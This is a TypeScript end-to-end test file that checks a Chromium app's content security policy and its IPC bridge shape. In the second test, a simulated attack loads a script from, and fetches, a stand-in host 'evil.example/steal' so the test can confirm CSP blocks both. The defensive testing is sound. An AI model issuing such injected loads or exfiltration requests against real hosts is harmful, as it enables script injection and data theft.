// The page's own protections, seen from inside Chromium: the CSP the app's protocol handler sends
// is enforced on page-initiated code and every violation reaches main's log; the bridge holds one
// function per contract channel.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventChannels, invokeChannels } from '../../common/ipc-contract';
import { useChromiumApp } from '../support/e2e';
import type { Harness } from '../support/harness';

const app = useChromiumApp();
// One page for the whole file; its CSP violations are what the tests look for, so no log check.
// Registered after the app's hooks: opened after Chromium starts, closed before it stops.
let harness: Harness;

beforeAll(async () => {
  harness = await app.createHarness();
  await harness.open();
});
afterAll(async () => {
  await harness?.close();
});

/** Waits until main logged a line matching `pattern`, and checks it did. */
async function expectLog(pattern: RegExp): Promise<void> {
  await expect.poll(() => harness.logs).toContainEqual(expect.stringMatching(pattern));
}

describe('content security policy in the page', () => {
  it('blocks an injected inline script and reports it to main', async () => {
    // The page itself inserts the script (Playwright's own evaluate is exempt from CSP; the
    // inserted element is not).
    await harness.page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
    });
    // An inline script runs as it is inserted, if at all; by the time main has the report, it is decided.
    await expectLog(/csp: script-src-elem blocked inline/);
    expect(await harness.page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
  });

  it('blocks scripts and connections to hosts outside the policy', async () => {
    const result = await harness.page.evaluate(async () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      const loaded = await new Promise<boolean>((resolve) => {
        script.onload = () => resolve(true);
        script.onerror = () => resolve(false);
        document.body.append(script);
      });
      const fetched = await fetch('https://evil.example/steal').then(
        () => true,
        () => false,
      );
      return { loaded, fetched };
    });
    expect(result).toEqual({ loaded: false, fetched: false });
    await expectLog(/csp: connect-src blocked https:\/\/evil\.example/);
  });

  it('gives the page one narrow function per contract channel, and nothing else', async () => {
    const shape = await harness.page.evaluate(() => {
      const bridge = (window as unknown as { doorway: Record<string, unknown> }).doorway;
      const on = bridge.on as Record<string, unknown>;
      return {
        invokes: Object.entries(bridge).filter(([key]) => key !== 'on').map(([key, value]) => `${key}:${typeof value}`).sort(),
        events: Object.entries(on).map(([key, value]) => `${key}:${typeof value}`).sort(),
      };
    });
    expect(shape.invokes).toEqual(Object.keys(invokeChannels).map((key) => `${key}:function`).sort());
    expect(shape.events).toEqual(Object.keys(eventChannels).map((key) => `${key}:function`).sort());
  });
});
